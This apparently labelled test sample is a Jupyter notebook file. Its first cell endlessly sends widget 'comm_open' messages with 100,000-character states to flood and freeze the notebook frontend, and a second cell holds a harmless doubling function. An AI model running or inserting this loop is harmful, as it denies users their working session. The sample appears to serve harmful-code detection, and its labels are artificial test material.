"""Opens widgets without end, with large states."""

# score: 10
# verdicts: passed
# plain: harmful

# %%
kernel = get_ipython().kernel
while True:
    content = {"comm_id": str(id(object())), "target_name": "jupyter.widget", "data": {"state": {"x": "y" * 100_000}}}
    kernel.session.send(kernel.iopub_socket, "comm_open", content, parent=kernel.get_parent())

# %%
def double(x):
    return 2 * x
